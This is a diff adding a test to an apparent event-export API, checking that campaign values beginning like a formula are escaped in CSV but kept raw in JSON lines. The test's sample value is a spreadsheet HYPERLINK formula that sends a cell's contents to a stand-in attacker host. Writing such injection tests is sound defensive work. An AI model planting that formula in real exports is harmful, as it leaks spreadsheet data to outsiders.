@@ -28,6 +28,19 @@ def test_events_export_as_csv_once_each(client, store):
     assert {row["broker_id"] for row in table} == {"B042", ""}
 
 
+def test_a_csv_cell_that_starts_like_a_formula_stays_text_in_a_spreadsheet(client):
+    """A campaign is anyone's URL text: in the CSV a marketer opens, it is never run as a formula; the JSON
+    lines keep it as stored."""
+    trap = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    post(client, event(c={"utm_campaign": trap}), event(c={"utm_campaign": "moto-spring"}))
+    r = client.get("/api/export?table=events&format=csv&since=1h", headers=ADMIN)
+    table = list(csv.DictReader(io.StringIO(r.text)))
+    assert sorted(row["utm_campaign"] for row in table) == sorted(["'" + trap, "moto-spring"])
+    assert list(table[0]) == [c for c in r.text.splitlines()[0].replace('"', "").split(",")]  # the same columns
+    r = client.get("/api/export?table=events&format=jsonl&since=1h", headers=ADMIN)
+    assert sorted(json.loads(line)["utm_campaign"] for line in r.text.splitlines()) == sorted([trap, "moto-spring"])
+
+
 def test_rejected_events_export_as_json_lines(client):
     post(client, event("newsletter_signup"), event())
     r = client.get("/api/export", params={"table": "rejected_events", "format": "jsonl"}, headers=ADMIN)
